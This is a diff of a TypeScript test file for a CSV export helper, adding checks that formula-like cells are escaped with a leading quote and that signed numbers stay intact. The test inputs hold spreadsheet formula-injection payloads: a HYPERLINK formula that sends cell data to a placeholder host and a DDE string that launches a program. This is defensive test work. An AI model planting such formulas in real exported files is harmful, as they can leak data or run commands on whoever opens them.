@@ -4,8 +4,8 @@ import { csvText } from '../../sync/csv-text.ts';
 
 // Values of every kind a row may hold, and text with what needs quoting where it can be.
 const VALUES: unknown[] = [
-  '', 'plain', '中文 名字', ' spaced ', 'a,b', 'say "hi"', '"', ',', '""', 'line\nbreak', 'cr\rhere', 'crlf\r\n', '\n', '=1+2', '-3', "it's", '\ufeffbom',
-  0, -0, 1, -1.5, 1e21, 0.1 + 0.2, Number.NaN, Number.POSITIVE_INFINITY, 10n, true, false, null, undefined, new Date(Date.UTC(2024, 4, 1)), { a: 1, b: 'x,y' }, ['a', 'b'],
+  '', 'plain', '中文 名字', ' spaced ', 'a,b', 'say "hi"', '"', ',', '""', 'line\nbreak', 'cr\rhere', 'crlf\r\n', '\n', 'a=1+2', '-3', '+886912345678', "it's", '\ufeffbom',
+  0, -0, 1, -1.5, -1200, 1e21, 0.1 + 0.2, Number.NaN, Number.POSITIVE_INFINITY, 10n, true, false, null, undefined, new Date(Date.UTC(2024, 4, 1)), { a: 1, b: 'x,y' }, ['a', 'b'], ['=x'],
 ];
 
 describe('csvText', () => {
@@ -21,5 +21,16 @@ describe('csvText', () => {
       expect(csvText(records, bom)).toBe(stringify(records, { bom }));
       expect(csvText([], bom)).toBe(stringify([], { bom }));
     }
+  });
+
+  it('makes text a spreadsheet would run as a formula start with a quote, so it is only text', () => {
+    const cells = ['=HYPERLINK("http://x.example/?"&A1,"hi")', '+1+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1', '\r=1', '\0=1', '-', '=', "'=already"];
+    expect(csvText([cells], false)).toBe(
+      `"'=HYPERLINK(""http://x.example/?""&A1,""hi"")",'+1+cmd,'-2+3+cmd|' /C calc'!A0,'@SUM(A1:A9),'\t=1,"'\r=1",'\0=1,'-,'=,'=already\n`,
+    );
+  });
+
+  it('leaves plain signed numbers alone, as text and as numbers, so amounts and phones stay usable', () => {
+    expect(csvText([['-1200', '-3.5', '+886912345678', -1200, -0.5, '-1,200', '-1e3']], false)).toBe(`-1200,-3.5,+886912345678,-1200,-0.5,"'-1,200",'-1e3\n`);
   });
 });
